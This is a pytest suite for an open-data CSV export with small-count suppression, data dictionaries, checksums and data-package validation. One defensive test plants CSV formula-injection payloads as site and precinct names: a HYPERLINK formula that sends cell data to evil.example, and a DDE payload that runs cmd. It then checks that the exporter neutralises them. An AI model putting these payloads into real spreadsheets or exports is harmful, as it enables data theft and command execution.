"""The open-data bundle, read back from disk as a community group would read it.

The whole public demo release is exported once (views for every whole year;
one small site also for every quarter), then every file is checked: no count of
1 to 10 people in any count column, every published count level passes the
exact audit, every column is documented, the ZIP holds every file, and the
views' rows equal what the pages get from the same views.
"""

from __future__ import annotations

import csv
import hashlib
import importlib
import io
import json
import math
import pkgutil
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import polars as pl
import pytest
from release_builder import minimal_release

import data_access.views as views_package
from data_access import queries as q
from data_access.audience import Audience
from data_access.cli import main
from data_access.db import make_engine
from data_access.disclosure import audit_published
from data_access.export import (
    STAFF_PREFIX,
    Bundle,
    ExportFailed,
    build_bundle,
    bundle_zip,
    complete_flags,
    write_bundle,
)
from data_access.export_datapackage import generator_version
from data_access.export_dictionary import undocumented
from data_access.export_sources import (
    CUBES,
    GATHERING_VIEWS,
    PERIOD_COLUMN,
    RELEASE_VIEWS,
    count_table_name,
    view_table_name,
)
from data_access.load import load_release
from data_access.views import Selection, build, view_names
from data_access.views.base import _VIEWS, view

SMALL = range(1, 11)
ALBANY = "albany"

# Register every view module, as data_access/views/__init__.py does once the lead lists them.
for _module in pkgutil.iter_modules(views_package.__path__):
    importlib.import_module(f"data_access.views.{_module.name}")


def _read(path: Path) -> pl.DataFrame:
    """A CSV as text, exactly as written (no type guessing)."""
    return pl.read_csv(path, infer_schema=False)


def _dictionary(folder: Path, prefix: str = "") -> dict[str, pl.DataFrame]:
    frame = _read(folder / f"{prefix}data-dictionary.csv")
    return {t: g for (t,), g in frame.group_by("table")}


@pytest.fixture(scope="module")
def demo_engine(demo_sqlite_url):
    return make_engine(demo_sqlite_url)


@pytest.fixture(scope="module")
def public_bundle(tmp_path_factory, demo_engine) -> tuple[Path, Bundle]:
    """The whole demo release, public, written by the same code as the command.

    Views are built for every whole year (`--periods years`): every count the
    pages show at any grain is in the cubes' levels, which are exported whole.
    """
    out = tmp_path_factory.mktemp("export") / "bundle"
    return out, write_bundle(demo_engine, out, periods="years")


@pytest.fixture(scope="module")
def public_export(public_bundle) -> Path:
    return public_bundle[0]


@pytest.fixture(scope="module")
def albany_every_period(tmp_path_factory, demo_engine) -> Path:
    """One small site with views for every quarter and year a visitor can choose."""
    out = tmp_path_factory.mktemp("export-albany") / "bundle"
    write_bundle(
        demo_engine, out, site_id=ALBANY, periods="all", view_names=["referrals", "disparities"]
    )
    return out


def _count_cells(folder: Path, prefix: str = "") -> tuple[list[tuple[str, str, float]], int]:
    """Every value of every count column of every table: (table, column, value), and the total.

    Averages of people count too (an average of 0.4 people is a small group: read as 1).
    """
    found, total = [], 0
    for table, columns in _dictionary(folder, prefix).items():
        kinds = dict(zip(columns["column"], columns["type"], strict=True))
        counts = [c for c, kind in kinds.items() if kind in ("count", "average count")]
        if not counts:
            continue
        frame = _read(folder / f"{prefix}{table}.csv")
        for column in counts:
            for value in frame[column].drop_nulls().to_list():
                total += 1
                number = float(value)
                if kinds[column] == "count":
                    assert number == int(number), f"{table}.{column}: {value!r} is not whole"
                # An average of 3.5 people is as small as a count of 3: both are scanned.
                found.append((table, column, math.ceil(number) if 0 < number < 1 else number))
    return found, total


@pytest.mark.parametrize(
    ("bundle", "at_least"), [("public_export", 2000), ("albany_every_period", 500)]
)
def test_no_count_from_1_to_10_in_any_count_column_of_any_file(bundle, at_least, request):
    folder = request.getfixturevalue(bundle)
    cells, total = _count_cells(folder)
    small = [c for c in cells if 1 <= c[2] < 11]
    assert small == []
    # Not vacuous: many counts were scanned, and small ones were there to withhold.
    assert total > at_least
    flags = pl.concat(
        [_read(p).select(pl.col("^.*_flag$")).unpivot() for p in folder.glob("count-*.csv")]
    )["value"]
    assert (flags == "fewer than 11").sum() > 20


def test_small_numbers_hide_nowhere_else_in_the_count_tables(public_export):
    # Flags and codes are words; every other cell of a count table is a period, an id or
    # a count, so a digit-only cell from 1 to 10 there would be a count the dictionary missed.
    for path in public_export.glob("count-*.csv"):
        frame = _read(path)
        for column in frame.columns:
            values = set(frame[column].drop_nulls().to_list())
            assert not values & {str(n) for n in SMALL}, f"{path.name}.{column}"


def test_every_published_count_level_passes_the_exact_audit_as_exported(public_bundle, demo_engine):
    folder, bundle = public_bundle
    release = q.get_release(demo_engine)
    audited = 0
    for cube in CUBES:
        for site_id, years in bundle.site_years.items():
            found = cube.build(demo_engine, release, site_id, Audience.PUBLIC, years)
            cube_rows: dict[tuple[str, ...], list[pl.DataFrame]] = {}
            for counts in found:  # one cube, or one per year
                tables = {}
                for level in counts.levels:
                    exported = _read(folder / f"{count_table_name(cube.name, level)}.csv")
                    # Rows of the site's other years join no cell of this cube's levels.
                    keys = counts.finest_keys.schema
                    tables[level] = exported.filter(pl.col("site_id") == site_id).select(
                        *(pl.col(c).cast(keys[c]) for c in level),
                        pl.col(counts.count).cast(pl.Int64),
                        pl.col(f"{counts.count}_flag").fill_null(""),
                    )
                    cube_rows.setdefault(level, []).append(
                        counts.levels[level].frame.select(pl.col(c).cast(pl.String) for c in level)
                    )
                truth = cube.finest(demo_engine, release, site_id) if cube.finest else None
                report = audit_published(
                    tables,
                    view=f"{counts.view} as exported",
                    finest_keys=counts.finest_keys,
                    dimensions=counts.dimensions,
                    count=counts.count,
                    true_finest_counts=truth,
                )
                report.raise_for_problems()
                audited += sum(t.height for t in tables.values())
            # Every exported row of the site is a cell of a cube that was audited, or a zero
            # written for a combination the cube holds nobody in.
            for level, frames in cube_rows.items():
                exported = _read(folder / f"{count_table_name(cube.name, level)}.csv")
                site = exported.filter(pl.col("site_id") == site_id)
                cells = pl.concat(frames)
                assert site.join(cells, on=list(level), how="semi").height == cells.height
                added = site.join(cells, on=list(level), how="anti")
                assert (added[counts.count] == "0").all(), (cube.name, level, site_id)
                assert (added[f"{counts.count}_flag"].fill_null("") == "").all()
    assert audited > 5000


def test_every_cube_of_the_views_is_exported():
    # A memoized cube added to a view module but not to export_sources.CUBES would leave
    # its counts out of the bundle: find every one the view modules define.
    listed = {cube.function for cube in CUBES}
    found = []
    for module in pkgutil.iter_modules(views_package.__path__):
        loaded = importlib.import_module(f"data_access.views.{module.name}")
        for name, value in vars(loaded).items():
            memoized = hasattr(value, "cache_clear") and hasattr(value, "__wrapped__")
            if memoized and value.__module__ == loaded.__name__:
                found.append(value)
                assert value in listed, f"{loaded.__name__}.{name} is not in CUBES"
    assert len(found) >= 4


def test_every_public_view_is_exported_with_every_table(public_export, demo_engine):
    files = {p.stem for p in public_export.glob("view-*.csv")}
    release = q.get_release(demo_engine)
    exported_views = 0
    for name in view_names():
        if name in RELEASE_VIEWS or name in GATHERING_VIEWS:
            continue
        try:
            result = build(name, demo_engine, Selection(release.release_id, ALBANY, "2025"),
                           Audience.PUBLIC)  # fmt: skip
        except PermissionError:  # a staff-only view: not in the public bundle
            assert not any(f.startswith(f"view-{name}-") for f in files)
            continue
        exported_views += 1
        for key in result.tables:
            assert view_table_name(name, key) in files
    assert exported_views >= 1


def test_every_column_of_every_file_is_documented(public_export):
    bundle = {p.stem: _read(p) for p in public_export.glob("*.csv")}
    assert undocumented(bundle) == []
    dictionary = _read(public_export / "data-dictionary.csv")
    listed = {(r["table"], r["column"]) for r in dictionary.iter_rows(named=True)}
    assert listed == {(t, c) for t, frame in bundle.items() for c in frame.columns}
    assert dictionary["meaning"].str.len_chars().min() > 10


def test_every_empty_number_has_a_reason(public_export):
    dictionary = _dictionary(public_export)
    for table, columns in dictionary.items():
        numbers = columns.filter(
            pl.col("type").is_in(["count", "count difference", "proportion", "ratio", "dollars"])
        )["column"]
        frame = _read(public_export / f"{table}.csv")
        for column in numbers:
            empty_without_reason = frame.filter(
                pl.col(column).is_null() & pl.col(f"{column}_flag").fill_null("").eq("")
            )
            assert empty_without_reason.height == 0, f"{table}.{column}"


@pytest.mark.parametrize("name", ["referrals", "disparities"])
def test_view_rows_equal_what_the_page_view_gives(name, albany_every_period, demo_engine):
    release = q.get_release(demo_engine)
    for period in ("2025-Q4", "2024-Q2", "2024"):
        result = build(name, demo_engine, Selection(release.release_id, ALBANY, period),
                       Audience.PUBLIC)  # fmt: skip
        for key, protected in result.tables.items():
            exported = _read(albany_every_period / f"view-{name}-{key}.csv")
            if PERIOD_COLUMN in exported.columns:
                exported = exported.filter(pl.col(PERIOD_COLUMN) == period)
            shown = protected.frame
            as_text = pl.read_csv(io.StringIO(shown.write_csv()), infer_schema=False)
            assert exported.height == shown.height
            for column in shown.columns:
                ours, theirs = exported[column], as_text[column]
                if column.endswith("_flag") and column.removesuffix("_flag") in exported.columns:
                    # The bundle may add a reason where the view left an empty value unexplained.
                    value = exported[column.removesuffix("_flag")]
                    ours = pl.select(
                        pl.when(value.is_null() & theirs.fill_null("").eq(""))
                        .then(theirs)
                        .otherwise(ours)
                    ).to_series()
                assert ours.equals(theirs, check_names=False), f"{name}.{key}.{column}"


def test_complete_flags_gives_every_number_its_own_reason_and_changes_no_number():
    # An interval shares its estimate's flag in a view; the bundle spells it out per column.
    frame = pl.DataFrame(
        {
            "stage": ["enrolled", "declined"],
            "numerator": [80, None],
            "estimate": [0.714, None],
            "ci_low": [0.62, None],
            "estimate_flag": ["", "fewer than 11"],
        }
    )
    done = complete_flags(frame)
    assert done.columns == [
        "stage", "numerator", "numerator_flag", "estimate", "estimate_flag",
        "ci_low", "ci_low_flag",
    ]  # fmt: skip
    assert done["numerator"].to_list() == [80, None]
    assert done["numerator_flag"].to_list() == ["", "fewer than 11"]
    assert done["ci_low_flag"].to_list() == ["", "fewer than 11"]
    # An empty number in a row with no reason at all still gets one.
    lone = complete_flags(pl.DataFrame({"change": [None, 3]}, schema={"change": pl.Int64}))
    assert lone["change_flag"].to_list() == ["not available", ""]


def test_readme_states_release_as_of_threshold_rules_and_every_definition(public_export):
    from data_access.metrics.registry import list_metrics

    text = (public_export / "README.md").read_text(encoding="utf-8")
    assert "release demo-2025-12" in text
    assert "2025-12-31" in text
    assert "Synthetic demonstration data" in text
    assert "k = 11" in text and "fewer than 11" in text and "1 to 10" in text
    assert "STAFF ONLY" not in text
    for definition in list_metrics():
        assert f"({definition.id})" in text.replace("`", "")
        assert definition.method in text
    for path in public_export.glob("*.csv"):
        assert f"`{path.name}`" in text


def test_the_zip_holds_every_file_byte_for_byte(public_export):
    (archive_path,) = public_export.glob("*.zip")
    assert archive_path.name == "lead-open-data-demo-2025-12.zip"
    with zipfile.ZipFile(archive_path) as archive:
        inside = {name: archive.read(name) for name in archive.namelist()}
    on_disk = {
        f"lead-open-data-demo-2025-12/{p.name}": p.read_bytes()
        for p in public_export.iterdir()
        if p.suffix != ".zip"
    }
    assert inside == on_disk
    assert len(inside) >= 25


def test_staff_export_is_exact_and_labelled(tmp_path, demo_engine):
    out = tmp_path / "staff"
    write_bundle(demo_engine, out, site_id=ALBANY, audience=Audience.STAFF, periods="years")
    names = sorted(p.name for p in out.iterdir())
    assert all(n.startswith(STAFF_PREFIX) for n in names if not n.endswith(".zip"))
    assert names[-1] == "lead-open-data-demo-2025-12-albany-STAFF-ONLY.zip"
    readme = (out / f"{STAFF_PREFIX}README.md").read_text(encoding="utf-8")
    assert readme.startswith("# LEAD open data: release demo-2025-12 (STAFF ONLY — exact counts")
    # Referrals per year equal the exact sums of the release's referrals table.
    release = q.get_release(demo_engine)
    exact = q.aggregate(demo_engine, "referrals", q.Scope(release.release_id, ALBANY), by=[],
                        grain="year")  # fmt: skip
    exported = _read(out / f"{STAFF_PREFIX}count-referral_flow-by-referred-year.csv").filter(
        pl.col("referred") == "yes"
    )
    assert dict(zip(exported["year"], exported["persons"].cast(pl.Int64), strict=True)) == dict(
        zip(exact["period"].cast(pl.String), exact["referrals"], strict=True)
    )
    cells, _ = _count_cells(out, STAFF_PREFIX)
    assert any(1 <= value < 11 for _, _, value in cells), "staff counts are not suppressed"
    flags = _read(out / f"{STAFF_PREFIX}count-referral_flow-by-outcome-quarter.csv")
    assert set(flags["persons_flag"].fill_null("")) == {""}
    # Its descriptor is named as staff files are, and states no licence: it is not open data.
    package = _package(out, STAFF_PREFIX)
    assert "licenses" not in package and package["audience"] == "staff"
    assert "STAFF ONLY" in package["title"] and "- Licence: none." in readme
    _assert_valid(out, STAFF_PREFIX)


def test_hostile_names_are_neutralised_in_the_csv_files(tmp_path, sqlite_url):
    release = minimal_release()
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
    release.tables["precincts"][1]["precinct_name"] = hostile
    release.tables["sites"][0]["site_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    engine = make_engine(sqlite_url)
    load_release(engine, release.write(tmp_path / "release"))
    out = tmp_path / "bundle"
    write_bundle(engine, out, periods="years")

    rows = list(csv.DictReader(io.StringIO((out / "precincts.csv").read_text("utf-8"))))
    west = next(r for r in rows if r["precinct_id"] == "west")
    assert west["precinct_name"] == "'" + hostile
    sites = list(csv.DictReader(io.StringIO((out / "sites.csv").read_text("utf-8"))))
    assert sites[0]["site_name"].startswith("'@SUM")
    # No cell of any file begins with a formula trigger, except plain numbers like -5.
    for path in out.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8"))):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@"):
                    float(cell)  # a negative change is a number, not a formula


@pytest.fixture
def broken_view():
    """A real view that fails half-way through an export (the database going away, say)."""
    name = "zz_broken_for_test"

    @view(name)
    def broken(engine, selection, audience):
        raise LookupError("the database stopped answering")

    yield name
    _VIEWS.pop(name)


def test_a_failed_export_leaves_nothing_behind_and_keeps_the_previous_one(
    tmp_path, demo_engine, broken_view
):
    out = tmp_path / "bundle"
    with pytest.raises(ExportFailed, match="zz_broken_for_test"):
        write_bundle(demo_engine, out, site_id=ALBANY, periods="years",
                     view_names=["referrals", broken_view])  # fmt: skip
    assert list(tmp_path.iterdir()) == []  # no bundle, no half-written hidden folder

    write_bundle(demo_engine, out, site_id=ALBANY, periods="years", view_names=["referrals"])
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    with pytest.raises(ExportFailed):
        write_bundle(demo_engine, out, site_id=ALBANY, periods="years", replace=True,
                     view_names=["referrals", broken_view])  # fmt: skip
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert [p.name for p in tmp_path.iterdir()] == ["bundle"]


def test_the_page_zip_is_the_exported_zip(tmp_path, demo_engine):
    out = tmp_path / "bundle"
    bundle = write_bundle(demo_engine, out, site_id=ALBANY, periods="years")
    zipped = bundle_zip(demo_engine, site_id=ALBANY, periods="years")
    assert zipped == (out / f"{bundle.name}.zip").read_bytes()
    assert build_bundle(demo_engine, site_id=ALBANY, periods="years").files == bundle.files


def test_command_line_export(tmp_path, demo_sqlite_url, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", demo_sqlite_url)
    out = tmp_path / "open-data"
    args = ["export", "--out", str(out), "--site", ALBANY, "--periods", "years"]

    assert main(args) == 0
    assert "Exported release demo-2025-12 (as of 2025-12-31)" in capsys.readouterr().out
    assert (out / "lead-open-data-demo-2025-12-albany.zip").exists()
    # A second export into the same folder is refused unless asked to replace it.
    assert main(args) == 1
    assert "already exists" in capsys.readouterr().err
    assert main([*args, "--replace"]) == 0
    assert main(["export", "--out", str(tmp_path / "x"), "--site", "atlantis"]) == 2
    assert "'atlantis'" in capsys.readouterr().err
    assert main(["export", "--out", str(tmp_path / "y"), "--release", "demo-1999"]) == 2
    assert not (tmp_path / "x").exists() and not (tmp_path / "y").exists()


def test_docs_describe_every_file_of_the_bundle(public_export):
    doc = (Path(__file__).resolve().parent.parent / "docs" / "open-data.md").read_text("utf-8")
    missing = [p.name for p in sorted(public_export.glob("*.csv")) if f"`{p.name}`" not in doc]
    assert missing == [], "document these files in docs/open-data.md"


def _documented_reasons() -> set[str]:
    """The reasons listed in docs/open-data.md, "Why a value is empty: every reason"."""
    text = (Path(__file__).resolve().parent.parent / "docs" / "open-data.md").read_text("utf-8")
    section = text.split("## Why a value is empty", 1)[1].split("\n## ", 1)[0]
    return set(re.findall(r"^\| `([^`]+)` \|", section, flags=re.MULTILINE))


@pytest.mark.parametrize("bundle", ["public_export", "albany_every_period"])
def test_every_reason_in_the_bundle_is_in_the_documented_list(bundle, request):
    folder = request.getfixturevalue(bundle)
    found: set[str] = set()
    for path in folder.glob("*.csv"):
        frame = _read(path)
        for column in (c for c in frame.columns if c.endswith("_flag")):
            found |= set(frame[column].drop_nulls().to_list()) - {""}
    assert {"fewer than 11", "withheld to protect another cell"} <= found
    undocumented_reasons = sorted(found - _documented_reasons())
    assert undocumented_reasons == [], "list these reasons in docs/open-data.md"


def test_a_zero_is_written_0_in_the_count_tables(public_export):
    frame = _read(public_export / "count-referral_flow-by-outcome-quarter.csv")
    # Every outcome a site uses has a row in every quarter of that site: no row is missing,
    # so a reader never has to guess whether an absent row is a zero.
    for (site,), rows in frame.group_by("site_id"):
        expected = rows["outcome"].n_unique() * rows["quarter"].n_unique()
        assert rows.height == expected, site
    zeros = frame.filter(pl.col("persons") == "0")
    assert zeros.height > 0 and (zeros["persons_flag"].fill_null("") == "").all()


def test_sha256sums_fingerprint_the_published_files_not_the_confidential_ones(
    public_export, demo_engine
):
    lines = (public_export / "SHA256SUMS").read_text("ascii").splitlines()
    listed = dict(reversed(line.split("  ", 1)) for line in lines)
    published = {p.name for p in public_export.iterdir() if p.suffix != ".zip"} - {"SHA256SUMS"}
    assert set(listed) == published
    for name, digest in listed.items():
        assert hashlib.sha256((public_export / name).read_bytes()).hexdigest() == digest, name
    if shutil.which("sha256sum"):
        check = subprocess.run(["sha256sum", "--check", "--quiet", "SHA256SUMS"],
                               cwd=public_export, capture_output=True, text=True)  # fmt: skip
        assert check.returncode == 0, check.stdout + check.stderr
    # The fingerprint of the site's input files (which hold the small counts) is not
    # published: it would confirm a guess of those files.
    assert "checksum" not in _read(public_export / "releases.csv").columns
    inputs = [r.checksum for r in q.list_releases(demo_engine)]
    everything = b"".join((public_export / name).read_bytes() for name in listed)
    assert inputs and not any(c.encode() in everything for c in inputs)


# --- datapackage.json: the bundle as an open-data portal or a Frictionless tool reads it ------

PROFILE = Path(__file__).resolve().parent / "datapackage_profile" / "datapackage-2.0.json"
# Two sites of the minimal release, one licence, a contact each, one privacy policy address.
TERMS = {
    "sea": {
        "licence": "ODbL-1.0",
        "contact": "opendata@sea.example.org",
        "privacy_policy_url": "https://sea.example.org/lead/privacy",
    },
    "sfe": {"licence": "ODbL-1.0", "contact": "https://sfe.example.org/contact"},
}


def _package(folder: Path, prefix: str = "") -> dict:
    return json.loads((folder / f"{prefix}datapackage.json").read_text(encoding="utf-8"))


def _frictionless(folder: Path, prefix: str = ""):
    """`frictionless validate` of the package: its metadata, and every resource's data."""
    from frictionless import validate

    report = validate(str(folder / f"{prefix}datapackage.json"))
    errors = [f"package: {e.message}" for e in report.errors]
    errors += [f"{t.name}: {e.message}" for t in report.tasks for e in t.errors]
    return report, errors


def _profile_errors(package: dict) -> list[str]:
    """What the Data Package v2 JSON Schema (the standard's own) finds wrong with `package`."""
    import jsonschema

    schema = json.loads(PROFILE.read_text(encoding="utf-8"))
    checker = jsonschema.Draft7Validator.FORMAT_CHECKER
    validator = jsonschema.Draft7Validator(schema, format_checker=checker)
    return [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(package)]


def _load_and_export(url: str, folder: Path, open_data: dict | None, **options) -> Path:
    release = minimal_release()
    if open_data is not None:
        release.manifest["open_data"] = open_data
    engine = make_engine(url)
    try:
        load_release(engine, release.write(folder / "release"))
        write_bundle(engine, folder / "bundle", periods="years", **options)
    finally:
        engine.dispose()
    return folder / "bundle"


@pytest.fixture(scope="module")
def licensed_bundle(tmp_path_factory) -> Path:
    """The minimal release, its sites' terms given in release.json, exported from SQLite."""
    root = tmp_path_factory.mktemp("licensed")
    return _load_and_export(f"sqlite:///{root / 'lead.sqlite'}", root, TERMS)


def _assert_valid(folder: Path, prefix: str = "") -> tuple[int, int]:
    """frictionless finds no error, every CSV was checked row by row; (resources, rows)."""
    report, errors = _frictionless(folder, prefix)
    assert errors == []
    assert report.valid
    rows = {t.place: t.stats.get("rows", 0) for t in report.tasks}  # none for an empty file
    assert sorted(rows) == sorted(p.name for p in folder.glob("*.csv"))
    for name, count in rows.items():
        assert count == _read(folder / name).height, name
    assert _profile_errors(_package(folder, prefix)) == []
    print(f"frictionless validate {folder.name}: {len(rows)} resources, "
          f"{sum(rows.values()):,} rows, {len(errors)} errors")  # fmt: skip
    return len(rows), sum(rows.values())


def test_the_demo_datapackage_is_valid_and_every_file_passes_its_schema(public_export):
    resources, rows = _assert_valid(public_export)
    assert resources >= 25 and rows > 10_000  # the whole demo bundle, not a sample of it


def test_the_datapackage_describes_every_column_as_the_data_dictionary_does(public_export):
    package = _package(public_export)
    dictionary = _dictionary(public_export)
    paths = [r["path"] for r in package["resources"]]  # one resource per CSV file
    assert sorted(paths) == sorted(p.name for p in public_export.glob("*.csv"))
    for resource in package["resources"]:
        fields = resource["schema"]["fields"]
        assert [f["name"] for f in fields] == _read(public_export / resource["path"]).columns
        rows = dictionary[resource["name"]]
        meaning = dict(zip(rows["column"], rows["meaning"], strict=True))
        kind = dict(zip(rows["column"], rows["type"], strict=True))
        for f in fields:
            assert f["description"].startswith(meaning[f["name"]]), (resource["name"], f)
            if kind[f["name"]] == "count":
                assert f["type"] == "integer" and f["constraints"]["minimum"] == 0
        # A withheld cell is written empty, and that is the one missing value.
        assert resource["schema"]["missingValues"] == [""]
        if resource["name"].startswith("count-"):
            level = resource["name"].removeprefix("count-").split("-by-")[1].split("-")
            assert resource["schema"]["primaryKey"] == ["site_id", *level]
    keys = {r["name"]: r["schema"].get("primaryKey") for r in package["resources"]}
    assert keys["sites"] == ["site_id"] and keys["precincts"] == ["site_id", "precinct_id"]
    assert keys["codes"] == ["column", "code"] and keys["data-dictionary"] == ["table", "column"]


def test_the_demo_bundle_states_the_default_licence_and_says_no_contact_was_given(public_export):
    package = _package(public_export)
    assert package["licenses"] == [
        {
            "name": "CC-BY-4.0",
            "path": "https://creativecommons.org/licenses/by/4.0/",
            "title": "Creative Commons Attribution 4.0",
        }
    ]
    sites = _read(public_export / "sites.csv")
    assert set(sites["licence"]) == {"CC-BY-4.0"}
    assert package["sites"] == json.loads(sites.write_json())  # the rows of sites.csv
    assert (package["release_id"], package["as_of"]) == ("demo-2025-12", "2025-12-31")
    assert package["synthetic"] is True and package["disclosure_threshold_k"] == 11
    first = min(sites["launched"])  # the quarter of the first launch, to the last quarter
    quarter_start = f"{first[:4]}-{(int(first[5:]) - 1) // 3 * 3 + 1:02d}-01"
    assert package["temporalCoverage"] == f"{quarter_start}/2025-12-31"
    assert package["generator"]["version"] == generator_version() == "0.1.0"
    assert [c["roles"] for c in package["contributors"]] == [["creator"]]  # no contact given
    text = (public_export / "README.md").read_text(encoding="utf-8")
    assert "- Licence: Creative Commons Attribution 4.0 (`CC-BY-4.0`), " in text
    assert "- Contact: none given with this release" in text
    assert "- Privacy policy: no web address was given with this release" in text


def test_a_sites_configured_licence_and_contact_are_in_the_datapackage_and_readme(
    licensed_bundle,
):
    _assert_valid(licensed_bundle)
    package = _package(licensed_bundle)
    odbl = {
        "name": "ODbL-1.0",
        "path": "https://opendatacommons.org/licenses/odbl/1-0/",
        "title": "Open Data Commons Open Database License 1.0",
    }
    assert package["licenses"] == [odbl]
    contacts = {c.get("email") or c.get("path") for c in package["contributors"]
                if c["roles"] == ["contact"]}  # fmt: skip
    assert contacts == {"opendata@sea.example.org", "https://sfe.example.org/contact"}
    by_site = {s["site_id"]: s for s in package["sites"]}
    assert by_site["sea"]["privacy_policy_url"] == "https://sea.example.org/lead/privacy"
    assert by_site["sfe"]["privacy_policy_url"] is None
    sites = _read(licensed_bundle / "sites.csv")
    assert set(sites["licence"]) == {"ODbL-1.0"}
    text = (licensed_bundle / "README.md").read_text(encoding="utf-8")
    assert (
        "- Licence: Open Data Commons Open Database License 1.0 (`ODbL-1.0`), "
        "https://opendatacommons.org/licenses/odbl/1-0/." in text
    )
    assert "Credit Test data office, LEAD open data release test-2024-12." in text
    assert "  - Seattle (sea): opendata@sea.example.org\n" in text
    assert "  - Santa Fe (sfe): https://sfe.example.org/contact\n" in text
    assert "  - Seattle (sea): https://sea.example.org/lead/privacy\n" in text
    # The descriptor is one of the files the manifest fingerprints.
    assert "  datapackage.json\n" in (licensed_bundle / "SHA256SUMS").read_text("ascii")


def test_frictionless_finds_a_file_that_no_longer_matches_its_schema(licensed_bundle, tmp_path):
    # The validation above can fail: a changed count and an unknown precinct are both found.
    copy = tmp_path / "bundle"
    shutil.copytree(licensed_bundle, copy)
    path = copy / "count-referral_flow-by-referred-year.csv"
    path.write_text(re.sub(r"^(sea,no,2024),\d+,", r"\1,5.5,", path.read_text(), flags=re.M))
    precincts = copy / "precincts.csv"
    precincts.write_text(precincts.read_text().replace("sea,west,", "sea,wets,"))
    _, errors = _frictionless(copy)
    assert any('"5.5"' in e and "integer" in e for e in errors), errors
    assert any("foreign key" in e and "west" in e for e in errors), errors
    assert any("hash" in e for e in errors), errors


def test_sites_with_different_licences_are_exported_one_site_at_a_time(
    tmp_path, monkeypatch, capsys
):
    url = f"sqlite:///{tmp_path / 'lead.sqlite'}"
    terms = {"sfe": {"licence": "CC0-1.0"}}  # Seattle keeps the default, CC-BY-4.0
    with pytest.raises(ExportFailed, match=r"different licences \(sfe: CC0-1.0; sea: CC-BY-4.0\)"):
        _load_and_export(url, tmp_path, terms)
    assert not (tmp_path / "bundle").exists()
    monkeypatch.setenv("DATABASE_URL", url)
    assert main(["export", "--out", str(tmp_path / "all"), "--periods", "years"]) == 1
    assert "--site sfe, --site sea" in capsys.readouterr().err
    for site, licence in (("sfe", "CC0-1.0"), ("sea", "CC-BY-4.0")):
        out = tmp_path / site
        engine = make_engine(url)
        write_bundle(engine, out, site_id=site, periods="years")
        engine.dispose()
        assert [lic["name"] for lic in _package(out)["licenses"]] == [licence]
        assert f"(`{licence}`)" in (out / "README.md").read_text(encoding="utf-8")


def test_the_licensed_bundle_from_postgres_is_valid_and_states_the_same_terms(
    tmp_path, postgres_url, licensed_bundle
):
    bundle = _load_and_export(postgres_url, tmp_path, TERMS)
    _assert_valid(bundle)
    ours, sqlite = _package(bundle), _package(licensed_bundle)
    for key in ("licenses", "contributors", "sites", "temporalCoverage", "title"):
        assert ours[key] == sqlite[key], key
    assert [r["schema"] for r in ours["resources"]] == [r["schema"] for r in sqlite["resources"]]
